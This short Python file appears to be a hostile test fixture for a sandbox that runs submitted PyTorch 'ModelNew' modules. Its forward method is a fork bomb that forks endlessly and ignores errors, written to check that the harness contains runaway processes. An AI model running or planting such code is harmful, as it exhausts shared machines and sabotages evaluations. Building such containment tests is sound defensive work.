"""Hostile: forks without end (bounded by the sandbox's process limit and the timeout)."""
import os

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        while True:
            try:
                os.fork()
            except OSError:
                pass
